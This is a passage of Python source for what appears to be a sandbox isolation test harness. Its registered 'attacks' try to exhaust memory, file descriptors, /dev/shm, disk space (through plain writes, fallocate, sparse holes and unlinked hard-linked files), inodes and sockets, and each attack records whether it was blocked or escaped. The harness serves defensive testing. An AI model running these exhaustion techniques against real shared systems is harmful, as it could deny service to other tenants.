        except OSError:
            pass
        held = []
        try:
            for _ in range(int(VICTIM.get("memory_mib", 512)) // 8):
                held.append(bytearray(os.urandom(4096)) * 2048)
                os.write(write, b".")
        except MemoryError:
            os._exit(3)
        os._exit(4)
    os.close(write)
    taken = 0
    while piece := os.read(read, 4096):
        taken += len(piece) * 8
    _, status = os.waitpid(child, 0)
    t.control("some memory was taken", taken > 8)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 4:
        t.escaped(f"{taken} MiB and no end")
    else:
        t.blocked(f"after {taken} MiB", f"status {status:#x}")


@attack("exhaustion-descriptors")
def descriptors(t):
    def take():
        held = []
        try:
            while len(held) < 200_000:
                held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as error:
            return f"{len(held)} {named(error.errno)}"
        return f"{len(held)} none"
    answer = in_child(take)
    number, _, why = answer.partition(" ")
    t.control("descriptors were opened", number.isdigit() and int(number) > 100)
    if why == "none":
        t.escaped(f"{number} descriptors")
    else:
        t.blocked(f"descriptor {number}", why)


@attack("exhaustion-shared-memory")
def shared_memory(t):
    taken, why = 0, "none"
    try:
        with open("/dev/shm/fill", "wb") as file:
            while taken < 512:
                file.write(b"\0" * 1_048_576)
                taken += 1
    except OSError as error:
        why = named(error.errno)
    finally:
        if os.path.exists("/dev/shm/fill"):
            os.unlink("/dev/shm/fill")
    t.control("some was written", taken > 0)
    if why == "none":
        t.escaped(f"{taken} MiB in /dev/shm")
    else:
        t.blocked(f"after {taken} MiB", why)


def blocks_below(directory):
    """Bytes of blocks, each file once however many names it has."""
    seen = {}
    for place, _, files in os.walk(directory):
        for name in files:
            info = os.lstat(os.path.join(place, name))
            seen[info.st_ino] = info.st_blocks * 512
    return sum(seen.values())


def written(home, limit):
    with open(os.path.join(home, "plain"), "wb", buffering=0) as file:
        for _ in range(2 * limit // 65536):
            file.write(b"x" * 65536)


def reserved(home, limit):
    fd = os.open(os.path.join(home, "reserved"), os.O_CREAT | os.O_RDWR)
    try:
        os.posix_fallocate(fd, 0, 2 * limit)
    finally:
        os.close(fd)


def holes_filled(home, limit):
    fd = os.open(os.path.join(home, "holes"), os.O_CREAT | os.O_RDWR)
    try:
        os.ftruncate(fd, 1 << 40)
        for at in range(2 * limit // 65536):
            os.pwrite(fd, b"x" * 65536, at << 24)
    finally:
        os.close(fd)


def named_twice(home, limit):
    """A file that has lost its name, and others under many names."""
    for at in range(2 * limit // 4_194_304):
        path = os.path.join(home, f"named-{at}")
        with open(path, "wb", buffering=0) as file:
            os.link(path, f"{path}-again")
            os.unlink(path)
            for _ in range(64):
                file.write(b"x" * 65536)


@attack("exhaustion-disk")
def fill_disk(t):
    limit = int(VICTIM.get("work_mib", 64)) * 1_048_576
    home = "/work/fill"
    for take in (written, reserved, holes_filled, named_twice):
        shutil.rmtree(home, ignore_errors=True)
        os.mkdir(home)
        why = "none"
        try:
            take(home, limit)
        except OSError as error:
            why = "full" if error.errno == errno.ENOSPC else named(error.errno)
        # The kernel may take a moment to give what is deleted a place.
        used = blocks_below(home)
        t.control("some was written" if take is written else "a file was made", used > 0 or take is reserved)
        what = f"{take.__name__.replace('_', ' ')}: {used >> 20} MiB of {limit >> 20}"
        if why == "none" or used > limit:
            t.escaped(f"{what}, {why}")
        else:
            t.blocked(what, why)
    shutil.rmtree(home, ignore_errors=True)


@attack("exhaustion-files")
def fill_with_files(t):
    """A file without content takes an inode all the same; of a volume of 64 MiB there are 10,000."""
    home = "/work/files"
    os.mkdir(home)
    made, why = 0, "none"
    try:
        while made < 20_000:
            os.close(os.open(os.path.join(home, str(made)), os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError as error:
        why = "full" if error.errno == errno.ENOSPC else named(error.errno)
    shutil.rmtree(home, ignore_errors=True)
    t.control("files were made", made > 100)
    if why == "none":
        t.escaped(f"{made} files")
    else:
        t.blocked(f"{made} files", why)


@attack("exhaustion-sockets")
def many_sockets(t):
    """Connections to ourselves and to the gateway; the tenant's number of them is bounded by the router."""
    network_works(t)
    held = []
    why = "none"
    try:
        for _ in range(2_000):
            client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            held.append(client)
            client.connect(("169.254.1.1", 53))
    except OSError as error:
        why = named(error.errno)
    for client in held:
        client.close()
    dns_works(t)
    t.blocked(f"{len(held)} sockets", why)


def run(name):
    trial = Trial()
    try:
        ATTACKS[name](trial)
    except Exception as error:  # What an attack did not foresee is neither an escape nor a defence.
        trial.unable.append(f"{type(error).__name__}: {error}")
    return {"controls": trial.controls, "tried": trial.tried[:60], "escapes": trial.escapes[:20],
            "unable": trial.unable, "filtered": trial.filtered, "gvisor": is_gvisor()}


def run_apart(name):
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        os.setpgid(0, 0)
        signal.alarm(2 * DEADLINE_SECONDS if name.startswith("exhaustion-") else DEADLINE_SECONDS)
        text = json.dumps(run(name)).encode()
        while text:
            text = text[os.write(write, text):]
        os._exit(0)
    os.close(write)
    text = b""
    while piece := os.read(read, 65536):
        text += piece
    _, status = os.waitpid(child, 0)
    try:
        os.killpg(child, signal.SIGKILL)
    except OSError:
        pass
    if text:
        return json.loads(text)
    return {"controls": [], "tried": [], "escapes": [], "unable": [f"ended with status {status:#x}"], "filtered": False, "gvisor": is_gvisor()}


if __name__ == "__main__":
    os.makedirs("/tmp", exist_ok=True)
    chosen = VICTIM.get("ids") or [name for name in ATTACKS if name.startswith("pod-")]
    print(json.dumps({name: run_apart(name) for name in chosen if name in ATTACKS}))
